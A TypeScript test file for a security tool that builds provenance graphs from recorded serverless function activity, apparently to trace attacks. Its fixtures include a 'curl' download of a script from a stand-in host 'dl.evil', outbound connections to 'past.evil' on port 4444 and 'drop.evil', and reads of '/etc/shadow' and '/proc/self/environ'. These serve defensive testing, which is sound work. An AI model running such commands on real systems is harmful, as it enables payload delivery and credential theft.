import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { buildShards } from '../../../functions/graph/build.ts';
import { MAX_LINKS } from '../../../functions/graph/draft.ts';
import {
  exchangeId,
  fileId,
  hostId,
  INIT,
  type NodeId,
  processId,
  requestId,
  requestPartition,
  resourceId,
} from '../../../functions/graph/ids.ts';
import { type Graph, localGraph, runtimeProcesses } from '../../../functions/graph/local.ts';
import type { ProcessId } from '../../../layers/record/types.ts';
import { containerReuse, survivingProcess } from '../attacks.ts';
import { Clock, Recorded } from '../scenario.ts';

function graphOf(one: Recorded, req: string, cuts: readonly number[] = []): Graph {
  const shards = one.segments(cuts).flatMap(({ segment, key }) => buildShards(segment, key).shards);
  const of = (partition: string) => shards.filter((shard) => shard.partition === partition);
  return localGraph(of(requestPartition(req)), runtimeProcesses(of(INIT)));
}

/** A graph without the names of the segments that its evidence lies in. */
function essence(graph: Graph) {
  const edges = graph.edges().map(({ evidence, ...edge }) => ({ ...edge, seqs: evidence.map(({ seq }) => seq) }));
  const order = (a: object, b: object) => (JSON.stringify(a) < JSON.stringify(b) ? -1 : 1);
  return { nodes: [...graph.nodes.values()].sort((a, b) => (a.id < b.id ? -1 : 1)), edges: edges.sort(order) };
}

const ops = (graph: Graph, from: NodeId, to: NodeId) =>
  graph
    .outOf(from)
    .filter((edge) => edge.to === to)
    .map(({ op }) => op);

describe('local graph', () => {
  it('is the same however the records were cut into segments', () => {
    for (const [one, req] of [
      [containerReuse().cards, 'req-plant'],
      [containerReuse().cards, 'req-use'],
      [survivingProcess().fn, 'req-c'],
    ] as const) {
      const whole = essence(graphOf(one, req));
      const cut = fc.array(fc.nat(one.records.length - 1), { maxLength: 12 });
      fc.assert(
        fc.property(cut, (cuts) => {
          expect(essence(graphOf(one, req, cuts))).toEqual(whole);
        }),
        { numRuns: 60 },
      );
    }
  });

  it('ties a request to the unit of the runtime process, and children to the unit that started them', () => {
    const { cards, curl, sh } = containerReuse();
    const graph = graphOf(cards, 'req-plant');
    const part = requestPartition('req-plant');
    const unit = (proc: ProcessId) => processId(cards.id, part, proc);
    const request = requestId(cards.id, part);
    expect(ops(graph, request, unit(cards.runtime))).toEqual(['event']);
    expect(ops(graph, unit(cards.runtime), request)).toEqual(['result']);
    expect(ops(graph, unit(cards.runtime), unit(sh))).toContain('start');
    expect(ops(graph, unit(sh), unit(curl))).toContain('start');
    expect(ops(graph, unit(curl), unit(sh))).toEqual(['exit']);
    expect(graph.nodes.get(unit(curl))).toMatchObject({ argv: ['curl', '-o', '/tmp/.x.js', 'http://dl.evil/x'] });
  });

  it('tells a steered connection by its exchange alone, under its host name', () => {
    const { cards } = containerReuse();
    const graph = graphOf(cards, 'req-plant');
    const endpoints = [...graph.nodes.values()].filter(({ kind }) => kind === 'endpoint');
    expect(endpoints.map(({ id }) => id)).toEqual([hostId('dl.evil')]);
    expect(new Set(graph.outOf(hostId('dl.evil')).map(({ op }) => op))).toEqual(new Set(['reply']));
    expect(new Set(graph.into(hostId('dl.evil')).map(({ op }) => op))).toEqual(new Set(['send']));
  });

  it('names a connection past the proxy by the name that was looked up', () => {
    const one = new Recorded('f', new Clock());
    one.begin('r');
    one.add(one.runtime, { kind: 'dns', name: 'Past.Evil', addrs: ['198.51.100.7'] });
    const peer = { addr: '198.51.100.7', port: 4444, proto: 'tcp' } as const;
    one.add(one.runtime, { kind: 'socket-connect', peer, fd: 4, localPort: 1, steered: false });
    one.add(one.runtime, { kind: 'socket-close', peer, fd: 4, received: 5, sent: 700 });
    const graph = graphOf(one, 'r');
    const into = graph.into(hostId('past.evil'));
    expect(into.map(({ op, bytes }) => [op, bytes])).toEqual(
      expect.arrayContaining([
        ['connect', 0],
        ['send', 700],
      ]),
    );
    expect(into.some(({ op }) => op === 'lookup')).toBe(false);
  });

  it('keeps a program that never reported itself, by the word of its parent', () => {
    const one = new Recorded('f', new Clock());
    one.begin('r');
    one.add(one.runtime, { kind: 'process-exec', path: '/tmp/static', argv: ['/tmp/static', '-x'], ok: true, child: 77 });
    one.add(one.runtime, { kind: 'process-exit', child: 77, code: 0 });
    one.add(one.runtime, { kind: 'process-exit', child: 78, code: 0 });
    const graph = graphOf(one, 'r');
    const unit = processId(one.id, requestPartition('r'), '77@?' as ProcessId);
    expect(graph.nodes.get(unit)).toMatchObject({ exe: '/tmp/static', exitCode: 0 });
    expect(ops(graph, fileId(one.id, '/tmp/static'), unit)).toEqual(['exec']);
    expect([...graph.nodes.keys()].filter((id) => id.endsWith('78@?'))).toEqual([]);
  });

  it('gives a child that its parent spawned the id under which it reported itself', () => {
    const one = new Recorded('f', new Clock());
    one.begin('r');
    one.add(one.runtime, { kind: 'process-exec', path: '/usr/bin/id', argv: ['id', '-u'], ok: true, child: 77 });
    const child = '77@900' as ProcessId;
    one.add(child, { kind: 'process-start', parent: one.runtime, exe: '/usr/bin/id', how: 'spawn' });
    const graph = graphOf(one, 'r');
    const units = [...graph.nodes.values()].filter(({ kind }) => kind === 'process');
    expect(units.map(({ id }) => id)).toHaveLength(2);
    expect(graph.nodes.get(processId(one.id, requestPartition('r'), child))).toMatchObject({ argv: ['id', '-u'] });
  });

  it('shows read-only trees as one node each, secrets and writable files as their own, and nothing of the recorder', () => {
    const one = new Recorded('f', new Clock());
    one.begin('r');
    for (const path of [
      '/usr/lib/a.so',
      '/usr/lib/b.so',
      '/etc/hosts',
      '/etc/shadow',
      '/proc/self/environ',
      '/proc/stat',
      '/dev/null',
    ]) {
      one.read(one.runtime, path);
    }
    one.write(one.runtime, '/tmp/.alastor/ring');
    one.write(one.runtime, '/tmp/../tmp/./x');
    one.write(one.runtime, '/var/task/changed.js');
    const labels = [...graphOf(one, 'r').nodes.values()].flatMap((node) =>
      node.kind === 'file' ? [node.path] : node.kind === 'image-tree' ? [`${node.root}/`] : [],
    );
    expect(labels.sort()).toEqual(
      ['/etc/', '/etc/shadow', '/proc/', '/proc/self/environ', '/tmp/x', '/usr/', '/var/task/', '/var/task/changed.js'].sort(),
    );
  });
});

describe('hostile records', () => {
  it('cannot put control characters or separators into ids, and long texts stay bounded and distinct', () => {
    const one = new Recorded('f', new Clock());
    one.begin('r:#~%@');
    const long = `/tmp/${'é'.repeat(5000)}`;
    one.write(one.runtime, '/tmp/\u001b[2J\u0000\u202ex');
    one.write(one.runtime, `${long}a`);
    one.write(one.runtime, `${long}b`);
    const [built] = one.segments().map(({ segment, key }) => buildShards(segment, key));
    const ids = built!.shards.flatMap(({ nodes }) => nodes.map(({ id }) => id));
    // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be there
    expect(ids.filter((id) => /[\u0000-\u001f\u007f-\u009f\u202e]/.test(id) || id.length > 700)).toEqual([]);
    expect(ids.filter((id) => id.includes('éé'))).toHaveLength(2);
    expect(built!.shards.map(({ partition }) => partition)).toContain('r%3A%23%7E%25%40');
    expect(resourceId('\u0007#x\ud800')).toBe('resource:%07#x%ud800');
    for (const { key } of built!.links) expect(Buffer.byteLength(key)).toBeLessThan(2048);
  });

  it('bounds what one segment adds to the index, and keeps connections before files', () => {
    const one = new Recorded('f', new Clock());
    one.begin('r');
    for (let i = 0; i < MAX_LINKS; i++)
      one.add(one.runtime, { kind: 'file-open', path: `/tmp/${i}`, mode: 'w', created: true, truncated: true, fd: 3 });
    one.exchange(one.runtime, { host: 'drop.evil' });
    const [built] = one.segments().map(({ segment, key }) => buildShards(segment, key));
    expect(built!.links).toHaveLength(MAX_LINKS);
    expect(built!.segment.linksCut).toBeGreaterThan(MAX_LINKS / 2);
    expect(built!.links.some(({ key }) => key === 'host:drop.evil')).toBe(true);
  });
});

describe('index entries', () => {
  const linksOf = (one: Recorded) => one.segments().flatMap(({ segment, key }) => buildShards(segment, key).links);

  it('tell of every node that claims a join key, of each once, at its earliest', () => {
    const one = new Recorded('f', new Clock());
    one.begin('r');
    const key = { key: 'sqs:m-1', sure: 'exact' } as const;
    one.exchange(one.runtime, { keys: [key, key] });
    one.exchange(one.runtime, { keys: [key] });
    one.end([key]);
    const claims = linksOf(one).filter((link) => link.key === 'join:sqs:m-1');
    const part = requestPartition('r');
    const exchanges = one.records.flatMap((record) => (record.kind === 'exchange' ? [record] : []));
    expect(claims.map(({ node, direction, t }) => [node, direction, t])).toEqual([
      ...exchanges.map(({ id, from }) => [exchangeId(one.id, part, id), 'out', from]),
      [requestId(one.id, part), 'out', one.records.at(-1)?.t],
    ]);
  });

  it('of a file that was read and written are one, at the earlier of both', () => {
    const one = new Recorded('f', new Clock());
    one.begin('r');
    one.read(one.runtime, '/tmp/both');
    const t = one.clock.now - 1000;
    one.write(one.runtime, '/tmp/both');
    one.read(one.runtime, '/tmp/read');
    const found = linksOf(one).filter(({ key }) => key.startsWith('file:'));
    expect(found.map(({ key, direction }) => [key, direction])).toEqual([
      [fileId(one.id, '/tmp/both'), 'at'],
      [fileId(one.id, '/tmp/read'), 'in'],
    ]);
    expect(found[0]).toMatchObject({ t, label: '/tmp/both' });
  });
});

it('keeps edges apart in a part of many nodes', () => {
  const one = new Recorded('f', new Clock());
  one.begin('r');
  const paths = Array.from({ length: 4200 }, (_, i) => `/tmp/${i}`);
  for (const path of paths) one.add(one.runtime, { kind: 'file-change', op: 'unlink', path });
  for (const path of paths) one.add(one.runtime, { kind: 'file-change', op: 'chmod', path });
  const shards = one.segments().flatMap(({ segment, key }) => buildShards(segment, key).shards);
  const edges = shards.flatMap((shard) => shard.edges).filter(({ op }) => op === 'unlink' || op === 'chmod');
  const from = processId(one.id, requestPartition('r'), one.runtime);
  expect(edges.map(({ op, to, count }) => [op, to, count])).toEqual(
    ['unlink', 'chmod'].flatMap((op) => paths.map((path) => [op, fileId(one.id, path), 1])),
  );
  expect(new Set(edges.map((edge) => edge.from))).toEqual(new Set([from]));
});
